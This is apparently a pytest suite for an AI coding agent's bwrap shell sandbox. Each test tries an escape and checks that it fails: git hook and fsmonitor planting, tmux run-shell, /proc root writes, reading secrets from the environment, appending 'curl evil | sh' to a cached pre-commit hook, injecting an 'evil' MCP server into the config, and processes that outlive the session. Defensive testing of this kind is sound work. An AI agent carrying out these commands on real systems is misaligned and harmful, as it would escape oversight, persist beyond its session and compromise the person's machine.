"""Attacks on the shell sandbox, performed for real: each test has a sandboxed command (the real
ShellTool, the real bwrap, real files, sockets and processes) try one way out, and checks from
outside that it failed. A machine without bwrap installed skips them. See README.md here for
the list of attacks and defences."""

from __future__ import annotations

import fcntl
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
import trio

from iota.sandbox import processes
from iota.sandbox.environment import EnvironmentPolicy
from iota.tools.jobs import open_job_table
from iota.config.limits import ShellLimits
from iota.sandbox.bwrap import probe_sandbox
from iota.tools.shell import ShellTool
from tests.iota.sandbox.test_bwrap import outside_dir  # noqa: F401  (a fixture)
from tests.iota.tools.test_shell import alive, assert_none_running, running
from tests.support.sandbox import real_sandbox

REPO = Path(__file__).resolve().parents[2]
# A Python the sandbox can see: the venv's own may live under /tmp (a checkout there), which the
# sandbox replaces with a private one; the interpreter it links to does not.
PYTHON = os.path.realpath(sys.executable)


@asynccontextmanager
async def real_shell(root: Path, *, sandboxed: bool = True, write: tuple[str, ...] = (), cwd: Path | None = None,
                     environment: EnvironmentPolicy = EnvironmentPolicy(), limits: ShellLimits | None = None):
    """The shell tool as a chat opens it: a job table, and the sandbox probed with its private
    /tmp and the job logs. Skips the test where bwrap is not installed."""
    if sandboxed:
        await real_sandbox(root)
    send, _ = trio.open_memory_channel(100)
    async with open_job_table(send) as jobs:
        sandbox = None
        if sandboxed:
            sandbox = await probe_sandbox(root, write=write, scratch=jobs.scratch_dir, logs=jobs.log_dir, cwd=cwd,
                                          limits=limits)
        yield ShellTool(root=root, jobs=jobs, sandbox=sandbox, auto_run=True, environment=environment)


def git(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    """git as the person runs it, outside the sandbox (with the test's HOME, no system config)."""
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "A", "GIT_AUTHOR_EMAIL": "a@example.com",
           "GIT_COMMITTER_NAME": "A", "GIT_COMMITTER_EMAIL": "a@example.com"}
    return subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True)


@pytest.fixture
def repo(tmp_path, monkeypatch):
    """A git repository with one commit; commands inside the sandbox commit as A too."""
    for name in ("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME"):
        monkeypatch.setenv(name, "A")
    for name in ("GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL"):
        monkeypatch.setenv(name, "a@example.com")
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    root = tmp_path / "project"
    root.mkdir()
    git("init", "-q", cwd=root)
    (root / "README").write_text("hello\n")
    git("add", "README", cwd=root)
    git("commit", "-qm", "first", cwd=root)
    return root


def hook_script(marker: Path) -> str:
    return f"#!/bin/sh\ntouch {marker}\n"


# --- .git -------------------------------------------------------------------------------------------


async def test_git_dir_cannot_be_swapped_for_a_copy_with_a_hook(repo, outside_dir):
    marker = outside_dir / "hook-ran"
    attack = (
        "mv .git .git_orig && mkdir .git && cp -a .git_orig/. .git/ && "
        f"printf '{hook_script(marker)}' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
    )
    async with real_shell(repo) as shell:
        result = await shell.run({"command": attack})
        assert result.is_error and "Device or resource busy" in result.content
        # Committing from inside the sandbox still works.
        (repo / "notes").write_text("n\n")
        inside = await shell.run({"command": "git add notes && git commit -qm inside && git log --format=%s -1"})
        assert inside.content == "inside\n"
    assert git("commit", "-q", "--allow-empty", "-m", "the person's next commit", cwd=repo).returncode == 0
    assert not marker.exists() and not (repo / ".git_orig").exists()
    assert sorted(os.listdir(repo)) == [".git", "README", "notes"], "no placeholder is left behind"


async def test_missing_hooks_directory_cannot_be_created(tmp_path, outside_dir):
    root = tmp_path / "project"
    root.mkdir()
    git("init", "-q", "--template=", cwd=root)  # no hooks directory at all
    marker = outside_dir / "hook-ran"
    attack = (f"mkdir -p .git/hooks && printf '{hook_script(marker)}' > .git/hooks/pre-commit "
              "&& chmod +x .git/hooks/pre-commit")
    async with real_shell(root) as shell:
        result = await shell.run({"command": attack})
    assert result.is_error and "Read-only file system" in result.content
    git("commit", "-q", "--allow-empty", "-m", "next", cwd=root)
    assert not marker.exists()
    assert not (root / ".git" / "hooks").exists(), "the placeholder is gone again"


async def test_commondir_cannot_point_git_at_another_config(repo, outside_dir):
    marker = outside_dir / "fsmonitor-ran"
    attack = (
        f"mkdir evil && cp -a .git/. evil/ && printf '{hook_script(marker)}' > evil/fsmonitor "
        f"&& chmod +x evil/fsmonitor && printf '[core]\\n\\tfsmonitor = {repo}/evil/fsmonitor\\n' >> evil/config && echo ../evil > .git/commondir"
    )
    async with real_shell(repo) as shell:
        result = await shell.run({"command": attack})
    assert result.is_error and "Read-only file system" in result.content
    assert git("status", cwd=repo).returncode == 0
    assert not marker.exists() and not (repo / ".git" / "commondir").exists()


async def test_a_submodules_config_stays_read_only(repo, tmp_path, outside_dir):
    library = tmp_path / "library"
    library.mkdir()
    git("init", "-q", cwd=library)
    git("commit", "-q", "--allow-empty", "-m", "lib", cwd=library)
    git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "lib", cwd=repo)
    git("commit", "-qm", "add lib", cwd=repo)
    marker = outside_dir / "fsmonitor-ran"
    (repo / "fsmonitor").write_text(hook_script(marker))
    (repo / "fsmonitor").chmod(0o755)
    attack = f"printf '[core]\\n\\tfsmonitor = {repo}/fsmonitor\\n' >> .git/modules/lib/config"
    async with real_shell(repo) as shell:
        result = await shell.run({"command": attack})
        assert result.is_error and "Read-only file system" in result.content
        result = await shell.run({"command": "mv .git/modules .git/old && echo moved"})
        assert result.is_error and "Device or resource busy" in result.content
    git("status", cwd=repo)  # `git status` looks into each submodule, with its config
    assert not marker.exists()


# --- other programs' sockets, terminals, processes, memory ---------------------------------------


async def test_a_tmux_server_in_tmp_is_out_of_reach(repo, tmp_path, outside_dir):
    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed")
    server = tmp_path / "tmux-0" / "default"  # where tmux keeps its socket: /tmp/tmux-<uid>/default
    server.parent.mkdir()
    subprocess.run(["tmux", "-S", str(server), "-f", "/dev/null", "new-session", "-d", "sleep 60"], check=True)
    marker = outside_dir / "run-shell-ran"
    try:
        async with real_shell(repo) as shell:
            result = await shell.run({"command": f"tmux -S {server} run-shell 'touch {marker}'"})
    finally:
        subprocess.run(["tmux", "-S", str(server), "kill-server"], capture_output=True)
    assert result.is_error and not marker.exists()


async def test_a_socket_anywhere_else_refuses_connections(repo, outside_dir):
    path = outside_dir / "daemon.sock"
    listener = trio.socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    await listener.bind(str(path))
    listener.listen(1)
    connect = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{path}'); s.sendall(b'hi')"
    async with real_shell(repo) as shell:
        result = await shell.run({"command": f"{PYTHON} -c \"{connect}\""})
    listener.close()
    assert result.is_error and "Connection refused" in result.content


async def test_the_runtime_directory_is_empty(repo, outside_dir, monkeypatch):
    runtime = outside_dir / "run-user-1000"
    runtime.mkdir(mode=0o700)
    (runtime / "bus").write_text("a D-Bus socket would be here\n")
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(runtime))
    async with real_shell(repo) as shell:
        result = await shell.run({"command": 'ls -A "$XDG_RUNTIME_DIR"; echo "listed $XDG_RUNTIME_DIR"'})
    assert result.content == f"listed {runtime}\n"


async def test_the_persons_terminal_is_out_of_reach(repo):
    master, follower = os.openpty()
    name = os.ttyname(follower)
    try:
        async with real_shell(repo) as shell:
            result = await shell.run({"command": f"echo typed-by-the-model > {name}"})
        os.set_blocking(master, False)
        try:
            seen = os.read(master, 1024)
        except BlockingIOError:
            seen = b""
    finally:
        os.close(master)
        os.close(follower)
    assert result.is_error and seen == b""


async def test_other_processes_cannot_be_signalled(repo):
    victim = subprocess.Popen(["sleep", "60"])
    try:
        async with real_shell(repo) as shell:
            result = await shell.run({"command": f"kill -9 {victim.pid}"})
        assert result.is_error and alive(victim.pid)
    finally:
        victim.kill()
        victim.wait()


async def test_proc_does_not_lead_back_into_the_host(repo, outside_dir):
    # Without a PID namespace, /proc/<pid>/root of any process of the user is the host's
    # filesystem as that process sees it: writable.
    async with real_shell(repo) as shell:
        result = await shell.run({"command": f"echo escaped > /proc/{os.getpid()}/root{outside_dir}/escaped"})
    assert result.is_error and not (outside_dir / "escaped").exists()


async def test_other_programs_shared_memory_is_not_visible(repo):
    if shutil.which("ipcmk") is None:
        pytest.skip("ipcmk (util-linux) is not installed")
    created = subprocess.run(["ipcmk", "-M", "4096"], capture_output=True, text=True, check=True)
    segment = created.stdout.split()[-1]
    try:
        async with real_shell(repo) as shell:
            result = await shell.run({"command": "ipcs -m"})
    finally:
        subprocess.run(["ipcrm", "-m", segment], capture_output=True)
    assert segment not in result.content.split()


# --- secrets ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("sandboxed", [True, False])
async def test_commands_do_not_see_secrets(repo, monkeypatch, sandboxed):
    secrets = {
        "ANTHROPIC_API_KEY": "sk-ant-secret", "OPENAI_API_KEY": "sk-secret", "GITHUB_TOKEN": "ghp_secret",
        "AWS_SECRET_ACCESS_KEY": "aws-secret", "PGPASSWORD": "pg-secret",
        "DATABASE_URL": "postgres://app:db-secret@db/app",
    }
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("EDITOR", "visible")
    async with real_shell(repo, sandboxed=sandboxed) as shell:
        result = await shell.run({"command": "env"})
    assert "EDITOR=visible" in result.content and "PATH=" in result.content
    assert [value for value in secrets.values() if value in result.content] == []


async def test_variables_the_config_hands_to_providers_are_secret_and_env_keep_keeps(repo, monkeypatch):
    monkeypatch.setenv("MY_LLM", "the-provider-key")  # providers.x.key: ${env:MY_LLM}
    monkeypatch.setenv("GITHUB_TOKEN", "wanted-by-gh")
    policy = EnvironmentPolicy(keep=("GITHUB_TOKEN", "MY_*"), secret=frozenset({"MY_LLM"}))
    async with real_shell(repo, environment=policy) as shell:
        result = await shell.run({"command": 'echo "[$MY_LLM] [$GITHUB_TOKEN]"'})
    assert result.content == "[] [wanted-by-gh]\n"


# --- iota's own files ------------------------------------------------------------------------------


@pytest.fixture
def home_outside_tmp(outside_dir, monkeypatch):
    """A HOME outside /tmp (the sandbox's /tmp is its own, so a HOME under it proves nothing), with
    a session and a bot's lock in ~/.iota."""
    home = outside_dir / "home"
    (home / ".iota" / "sessions" / "s1").mkdir(parents=True)
    (home / ".iota" / "sessions" / "s1" / "messages.jsonl").write_text('{"role": "user", "text": "private"}\n')
    (home / ".iota" / "bots" / "coder").mkdir(parents=True)
    (home / ".iota" / "bots" / "coder" / "lock").write_text("")
    monkeypatch.setenv("HOME", str(home))
    return home


async def test_sessions_are_not_readable(repo, home_outside_tmp):
    async with real_shell(repo) as shell:
        result = await shell.run({"command": 'cat ~/.iota/sessions/s1/messages.jsonl; echo "[$(ls -A ~/.iota)]"'})
    assert "private" not in result.content and result.content.endswith("\n[]\n")


async def test_a_bots_lock_cannot_be_held(repo, home_outside_tmp):
    lock = home_outside_tmp / ".iota" / "bots" / "coder" / "lock"
    async with real_shell(repo) as shell:
        await shell.run({"command": f"setsid flock {lock} sleep 30", "background": True})
        await trio.sleep(0.5)
        with open(lock) as file:
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)  # the bot starts: BlockingIOError if held


async def test_code_in_the_persons_cache_cannot_be_changed(repo, home_outside_tmp, monkeypatch):
    # pre-commit runs its hooks from ~/.cache/pre-commit at the person's next commit, outside any
    # sandbox; uv hard-links virtualenv files from its cache. A writable real cache is a way out.
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    hook = home_outside_tmp / ".cache" / "pre-commit" / "repo1" / "hook.sh"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\necho lint\n")
    async with real_shell(repo) as shell:
        planted = await shell.run({"command": f"echo 'curl evil | sh' >> {hook}; cat {hook}"})
        built = await shell.run({"command": "mkdir -p ~/.cache/pip && echo wheel > ~/.cache/pip/w && cat ~/.cache/pip/w"})
    assert hook.read_text() == "#!/bin/sh\necho lint\n"
    assert "curl" not in planted.content
    # Package managers still have a cache to write, one of the sandbox's own for this project.
    assert built.content == "wheel\n"
    [project_cache] = (home_outside_tmp / ".cache" / "iota-sandbox").iterdir()
    assert project_cache.name.startswith("project-") and (project_cache / "pip" / "w").read_text() == "wheel\n"
    assert not (home_outside_tmp / ".cache" / "pip").exists()


@pytest.mark.parametrize("exists", [False, True])
async def test_the_project_config_cannot_be_written(repo, exists):
    start = repo / "sub"  # iota was started in a subdirectory: its .iota.yaml counts too
    start.mkdir()
    if exists:
        for directory in (repo, start):
            (directory / ".iota.yaml").write_text("agents: {}\n")
    names = [".iota.yaml", ".iota.yml", "sub/.iota.yaml", "sub/.iota.yml"]
    attack = "; ".join(
        f"echo 'mcp_servers: {{evil: {{command: sh}}}}' > {name} && echo wrote {name}; "
        f"mv -f {name} moved 2>/dev/null && echo moved {name}; "
        f"mkdir -p hidden && ln -s hidden/x {name} 2>/dev/null && echo linked {name}" for name in names
    )
    async with real_shell(repo, cwd=start) as shell:
        result = await shell.run({"command": attack})
        assert [line for line in result.content.splitlines() if line.startswith(("wrote", "moved", "linked"))] == []
        # git does not list a placeholder, so a `git add -A` in the sandbox cannot commit one.
        status = await shell.run({"command": "git status --porcelain --untracked-files=all"})
        listed = sorted(line[3:] for line in status.content.splitlines() if ".iota" in line)
        assert listed == ([".iota.yaml", "sub/.iota.yaml"] if exists else [])
    for directory in (repo, start):
        assert not (directory / ".iota.yml").exists()
        if exists:
            assert (directory / ".iota.yaml").read_text() == "agents: {}\n"
        else:
            assert not (directory / ".iota.yaml").exists(), "no placeholder is left behind"
    assert not (repo / "moved").exists()


@pytest.mark.parametrize("how", ["the project is home", "home is a write: path"])
async def test_iota_home_and_user_config_cannot_be_written_when_home_is_writable(tmp_path, monkeypatch, how):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    project = home if how == "the project is home" else tmp_path / "project"
    project.mkdir(exist_ok=True)
    attack = ("echo 'providers: {x: {type: openai, url: http://evil}}' > ~/.iota.yaml && echo wrote; "
              "echo x > ~/.iota.yml && echo wrote; mkdir -p ~/.iota/bots/evil && echo wrote; "
              "echo x > ~/.iota/MEMORY.md && echo wrote; true")
    async with real_shell(project, write=(str(home),)) as shell:
        result = await shell.run({"command": attack})
    assert "wrote" not in result.content
    assert sorted(name for name in os.listdir(home) if name.startswith(".iota")) == []


# --- nothing outlives its call ---------------------------------------------------------------------


@pytest.mark.parametrize("sandboxed", [True, False])
async def test_what_a_call_leaves_running_dies_with_it(repo, sandboxed):
    sleeper = f"sleep 7711.{int(sandboxed)}"
    async with real_shell(repo, sandboxed=sandboxed) as shell:
        result = await shell.run({"command": f"{sleeper} & setsid {sleeper} & echo started"})
        assert result.content == "started\n"
        await assert_none_running(sleeper)


@pytest.mark.parametrize("sandboxed", [True, False])
async def test_the_chats_exit_takes_background_jobs_along(repo, sandboxed):
    sleeper = f"sleep 7713.{int(sandboxed)}"
    async with real_shell(repo, sandboxed=sandboxed) as shell:
        await shell.run({"command": f"setsid {sleeper} & {sleeper}", "background": True})
        with trio.fail_after(10):
            while len(running(sleeper)) < 2:
                await trio.sleep(0.02)
    await assert_none_running(sleeper)


CHILD = textwrap.dedent("""
    import sys, trio
    from iota.tools.jobs import open_job_table
    from iota.sandbox.bwrap import probe_sandbox
    from iota.tools.shell import ShellTool

    async def main(root, sandboxed, command):
        send, _ = trio.open_memory_channel(100)
        async with open_job_table(send) as jobs:
            sandbox = None
            if sandboxed == "yes":
                sandbox = await probe_sandbox(root, scratch=jobs.scratch_dir, logs=jobs.log_dir)
            shell = ShellTool(root=root, jobs=jobs, sandbox=sandbox, auto_run=True)
            await shell.run({"command": command, "background": True})
            print("started", flush=True)
            await trio.sleep_forever()

    trio.run(main, *sys.argv[1:])
""")


@pytest.mark.parametrize("sandboxed", [True, False])
async def test_kill_9_of_iota_takes_its_commands_along(repo, sandboxed):
    if sandboxed:
        await real_sandbox(repo)
    sleeper = f"sleep 7712.{int(sandboxed)}"
    iota = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(repo), "yes" if sandboxed else "no",
         f"{sleeper} & setsid {sleeper} & {sleeper}"],
        stdout=subprocess.PIPE, env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    try:
        assert iota.stdout.readline() == b"started\n"
        with trio.fail_after(10):
            while len(running(sleeper)) < 3:
                await trio.sleep(0.02)
        iota.kill()
        iota.wait()
        await assert_none_running(sleeper)
    finally:
        iota.kill()
        iota.wait()
        for pid in running(sleeper):
            os.kill(pid, signal.SIGKILL)


async def test_a_runaway_background_log_is_kept_small(repo, monkeypatch):
    monkeypatch.setattr(processes, "MAX_LOG_BYTES", 1024 * 1024)
    monkeypatch.setattr(processes, "LOG_CHECK_SECONDS", 0.05)
    async with real_shell(repo) as shell:
        await shell.run({"command": "yes", "background": True})
        await trio.sleep(2)
        [job] = shell.jobs.running()  # still running: the log is cut, the job is not
        size = job.log_path.stat().st_size
        with open(job.log_path, "rb") as log:
            start = log.read(1024 * 1024)  # the kept head, then the marker
    # How far past the cap the log gets depends on how fast `yes` writes between two looks (and
    # on the machine's load), so the test compares with what was dropped: most of it.
    marker = re.search(rb"\[\.\.\. at least (\d+) bytes of output dropped: a command's log is kept under 1 MiB", start)
    assert start.startswith(b"y\n" * 1000) and marker is not None
    assert int(marker[1]) > size
